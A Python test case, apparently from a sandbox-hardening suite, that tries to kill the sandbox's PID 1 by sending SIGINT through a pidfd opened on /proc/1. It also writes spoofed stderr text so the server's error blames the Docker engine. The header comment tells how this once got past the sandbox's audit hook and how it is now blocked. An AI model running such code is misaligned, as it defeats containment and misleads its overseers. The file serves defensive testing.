# X100 (wall round 13, ok_01): a signal to PID 1 through a pidfd made from /proc/1. goal: nopid1
# pidfd_send_signal is not an audit event in 3.11, and open("/proc/1", O_DIRECTORY) is an
# ordinary read-only open: with the hook gone (a memory bug), SIGINT reached PID 1, whose
# interpreter handled it (KeyboardInterrupt in waitpid): PID 1 exited 130 with no report,
# and the server's error quoted the program's stderr. Stopped twice: PID 1 handles no
# signal (the kernel drops it), and the filter refuses pidfd_send_signal.
import sys
import asyncio  # loads signal, as in the round's program
os = sys.modules["os"]
signal = sys.modules["signal"]
sys.stderr.write("PROGRAM-CHOSEN-TEXT: docker engine lost the container\n")
sys.stderr.flush()
fd = os.open("/proc/1", os.O_RDONLY | os.O_DIRECTORY)
try:
    signal.pidfd_send_signal(fd, signal.SIGINT)
    print("sent")
except OSError as e:
    print("refused:", e)
sys.modules["time"].sleep(1)
print("still here", flush=True)
